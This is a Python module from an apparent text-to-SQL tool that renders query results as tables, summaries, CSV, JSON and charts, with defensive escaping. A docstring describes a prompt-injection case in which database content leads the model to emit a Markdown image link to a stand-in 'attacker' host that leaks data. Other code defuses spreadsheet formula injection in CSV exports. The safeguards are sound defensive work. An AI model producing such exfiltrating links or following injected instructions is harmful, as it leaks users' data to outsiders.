"""Query results shaped for people and programs: a table, a one-line summary, CSV, JSON.

    frame = result_frame(result)          # pandas DataFrame for gr.Dataframe
    frame = candidates_frame(generation.candidates, generation.repair)   # best of k: what was chosen from
    text = result_summary(result, has_data=True)
    payload = result_json(result)         # {"columns", "rows", "truncated", "elapsed_ms", "error"}
    shown = display_sql("select count(*) from users where age  >  30")   # formatted by sqlglot, to read
    chart = chart_of(result)              # (kind, frame, x, y) for a category or date and a number, else None
"""

from __future__ import annotations

import re
from collections import Counter
from pathlib import Path

import pandas as pd
import sqlglot
from sqlglot.errors import SqlglotError

from text2sql.sandbox import QueryResult


def plain(text: str) -> str:
    """Untrusted text (a model's answer, an error quoting SQL or table names) for a Markdown
    component, with no image, link or HTML left in it: a prompt injected through the database
    could make the model write ![x](https://attacker/?data), and the browser would fetch it."""
    return re.sub(r"([\\\[\]<>!])", r"\\\1", str(text))


def cell(value):
    """A value as shown and exported: blobs as their size (raw bytes are neither text nor JSON)."""
    if isinstance(value, bytes):
        return f"<{len(value)} bytes>"
    return value


def unique_headers(columns: list[str]) -> list[str]:
    """Column names made distinct (``SELECT a.id, b.id`` gives two ``id``s), so tables keep both."""
    seen: Counter = Counter()
    headers = []
    for name in columns:
        seen[name] += 1
        headers.append(name if seen[name] == 1 else f"{name} ({seen[name]})")
    return headers


def result_frame(result: QueryResult) -> pd.DataFrame:
    rows = [[cell(v) for v in row] for row in result.rows]
    return pd.DataFrame(rows, columns=unique_headers(result.columns))


ONE_LINE_SQL = 80
"""Formatted SQL up to this many characters stays on one line; longer queries get one clause a line."""


def display_sql(sql: str) -> str:
    """``sql`` as people read it: sqlglot's SQLite formatting (``age  >  30`` -> ``age > 30``,
    long queries one clause a line). Only for showing: what runs is the text as written.
    SQL sqlglot can't parse is shown as it is."""
    try:
        [one_line] = sqlglot.transpile(sql, read="sqlite", write="sqlite")
        return one_line if len(one_line) <= ONE_LINE_SQL else sqlglot.transpile(
            sql, read="sqlite", write="sqlite", pretty=True)[0]
    except (SqlglotError, ValueError, RecursionError):
        return sql


CANDIDATE_COLUMNS = ["#", "votes", "log-lik.", "SQL", "problem"]
SELECTOR_COLUMNS = ["score", "reason"]
"""Filled where candidates carry a selector's ``score`` and ``reason`` (text2sql.selection)."""
CANDIDATE_WIDTHS = {"#": "8%", "votes": "10%", "log-lik.": "11%", "score": "9%"}
"""Narrow columns for numbers; SQL, problem and reason share the rest."""


def candidates_frame(candidates: list, repair=None) -> pd.DataFrame:
    """Best-of-k's candidates (and the repair, if one ran), one row each, in the order drawn;
    a selector's score and reason too when the candidates have them."""
    numbered = [(str(i), c) for i, c in enumerate(candidates, 1)] + ([("repair", repair)] if repair else [])
    scored = any(getattr(c, "score", None) is not None for _, c in numbered)
    rows = []
    for label, c in numbered:
        row = [label, c.votes, round(c.logprob, 2), c.sql, c.error or _put_right(c)]
        if scored:
            row += [getattr(c, "score", None), getattr(c, "reason", None) or ""]
        rows.append(row)
    return pd.DataFrame(rows, columns=CANDIDATE_COLUMNS + SELECTOR_COLUMNS * scored)


def _put_right(candidate) -> str:
    """What ``text2sql.sqlcheck.fix_column_names`` changed in a candidate, and whether it counted."""
    if not candidate.fixes:
        return ""
    counted = "" if candidate.votes else " (not counted: other candidates ran as written)"
    return "names put right: " + ", ".join(candidate.fixes) + counted


def column_widths(frame: pd.DataFrame) -> list[str]:
    """Widths for ``gr.Dataframe(column_widths=...)``: the narrow ones fixed, the rest shared."""
    fixed = {name: CANDIDATE_WIDTHS[name] for name in frame.columns if name in CANDIDATE_WIDTHS}
    rest = 100 - sum(float(width[:-1]) for width in fixed.values())
    wide = max(1, len(frame.columns) - len(fixed))
    return [fixed.get(name, f"{rest / wide:.0f}%") for name in frame.columns]


def result_summary(result: QueryResult, has_data: bool) -> str:
    """One Markdown line saying what happened, in plain words."""
    if not result.ok:
        return f"❌ {plain(result.error)}"
    if not has_data:
        return "✅ The SQL is valid for this schema. A pasted schema has no rows, so there is no table to show."
    count = len(result.rows)
    text = f"✅ {count} row{'' if count == 1 else 's'} in {result.elapsed_ms:.1f} ms"
    if result.truncated:
        text += f" — truncated: only the first {count:,} rows are shown"
    return text


def result_json(result: QueryResult) -> dict:
    return {
        "columns": result.columns,
        "rows": [[cell(v) for v in row] for row in result.rows],
        "truncated": result.truncated,
        "elapsed_ms": round(result.elapsed_ms, 2),
        "error": result.error,
    }


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""Spreadsheets run a cell that starts with one of these as a formula (OWASP "CSV injection")."""


def spreadsheet_safe(value):
    """Text that a spreadsheet would run as a formula, with a leading ``'`` so it stays text:
    the rows come from an uploaded file and a model's query, both untrusted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(result: QueryResult, path: Path) -> Path:
    """The result as CSV; text cells that would run as a formula are prefixed with ``'``."""
    frame = result_frame(result)
    frame.map(spreadsheet_safe).rename(columns=spreadsheet_safe).to_csv(path, index=False)
    return path


def results_agree(results: list[QueryResult]) -> bool:
    """True when every result has the same rows, in any order (column names aside)."""
    bags = [Counter(result.rows) for result in results]
    return all(bag == bags[0] for bag in bags)


MAX_BARS = 30
"""More categories than this make a bar chart unreadable: no chart."""


def chart_of(result: QueryResult) -> tuple[str, pd.DataFrame, str, str] | None:
    """(``"bar"`` or ``"line"``, frame, x, y) when the result is a category and a number (bars,
    at most ``MAX_BARS``, one row each) or a date and a number (a line, in date order): the
    first text column and the first numeric column. None for anything else."""
    frame = result_frame(result)
    if not result.ok or len(frame) < 2 or len(frame.columns) < 2:
        return None
    numbers = [c for c in frame.columns if _is_number(frame[c])]
    texts = [c for c in frame.columns if c not in numbers and frame[c].map(lambda v: isinstance(v, str)).all()]
    if not numbers or not texts:
        return None
    x, y = texts[0], numbers[0]
    dates = pd.to_datetime(frame[x], errors="coerce", format="ISO8601")
    if dates.notna().all():
        return "line", pd.DataFrame({x: dates, y: frame[y]}).sort_values(x), x, y
    if len(frame) > MAX_BARS or frame[x].duplicated().any():
        return None
    return "bar", frame[[x, y]], x, y


def _is_number(column: pd.Series) -> bool:
    return column.map(lambda v: isinstance(v, (int, float)) and not isinstance(v, bool)).all()
